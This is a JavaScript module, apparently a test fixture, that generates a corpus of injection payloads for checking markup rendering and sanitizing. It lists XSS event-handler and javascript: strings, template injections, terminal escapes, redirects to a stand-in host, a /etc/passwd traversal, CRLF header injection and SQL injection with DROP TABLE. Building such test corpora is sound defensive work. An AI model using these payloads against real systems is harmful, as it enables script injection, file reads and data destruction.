// Texts that would run, fetch or deceive where somebody shows them as markup. Made here from parts:
// every kind of element that runs something, in every way that it does.

const RUN = 'top.__hit=1';

export function payloads() {
  const loading = ['img src=x', 'image src=x', 'video src=x', 'audio src=x', 'input type=image src=x', 'object data=x', 'embed src=x', 'link rel=stylesheet href=x', 'script src=x', 'source src=x', 'iframe src=x', 'svg', 'body', 'style', 'frameset'];
  const acting = ['a', 'b', 'p', 'div', 'button', 'details open', 'marquee', 'form', 'input autofocus', 'select autofocus', 'textarea autofocus', 'table', 'math', 'x contenteditable autofocus tabindex=1'];
  const handlers = ['onerror', 'onload', 'onloadstart', 'onfocus', 'onclick', 'onmouseover', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbeforeinput'];
  const elements = [...loading.flatMap((tag) => handlers.slice(0, 4).map((handler) => `<${tag} ${handler}=${RUN}>`)), ...acting.flatMap((tag) => handlers.slice(3).map((handler) => `<${tag} ${handler}="${RUN}">x`))];
  const schemes = ['javascript:', 'JaVaScRiPt:', 'java\tscript:', '\u0001javascript:', 'data:text/html,<script>', 'vbscript:'].flatMap((scheme) => [`<a href="${scheme}${RUN}">x</a>`, `<iframe src="${scheme}${RUN}"></iframe>`, `<form action="${scheme}${RUN}"><button>x</button></form>`, `[x](${scheme}${RUN})`, `${scheme}${RUN}`]);
  const breaking = ['"', "'", '`', '">', "'>", '-->', ']]>', '</title>', '</textarea>', '</script>', '</style>', '</noscript>', '</template>', '*/', '\\u003c/script\\u003e', '%3C/script%3E', '&lt;/script&gt;'].flatMap((end) => [`${end}<script>${RUN}</script>`, `${end} autofocus onfocus=${RUN} x=`]);
  const templates = [`{@html "<img src=x onerror=${RUN}>"}`, `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `<%= ${RUN} %>`, `#{${RUN}}`, `{%raw%}<script>${RUN}</script>`, `{{{<img src=x onerror=${RUN}>}}}`, `__proto__`, `constructor`, `toString`];
  const odd = [
    `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script\u0000>${RUN}</script>`, `<\u0000script>${RUN}</script>`, `\ufeff<script>${RUN}</script>`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `<svg><animate onbegin=${RUN} attributeName=x>`, `<svg><use href="data:image/svg+xml,<svg onload=${RUN}>"/>`,
    `<math><mtext><table><mglyph><style><img src onerror=${RUN}>`, `<style>@import 'x';*{background:url(x)}</style>`, `<base href=//x.example/>`, `<meta http-equiv=refresh content="0;url=//x.example/">`, `<link rel=prefetch href=//x.example/>`, `<template><img src=x onerror=${RUN}></template>`, `<iframe srcdoc="<script>${RUN}</script>">`,
    '\u202e<tpircs>\u202c', '\u2066hidden\u2069', '\u001b]0;title\u0007\u001b[2J\u001b[31m', '\u009b31m', '\u001b]8;;javascript:top.__hit=1\u0007click\u001b]8;;\u0007', 'a'.repeat(5000), 'Z\u0351\u036b\u0343'.repeat(200), '\u{e0041}\u{e0042}\u{e0043}', '=HYPERLINK("//x.example","x")', '@SUM(1+1)*cmd', '../../../../etc/passwd', '%0d%0aset-cookie: a=b', "' OR 1=1 --", '"; DROP TABLE records; --',
  ];
  return [...new Set([...elements, ...schemes, ...breaking, ...templates, ...odd])];
}
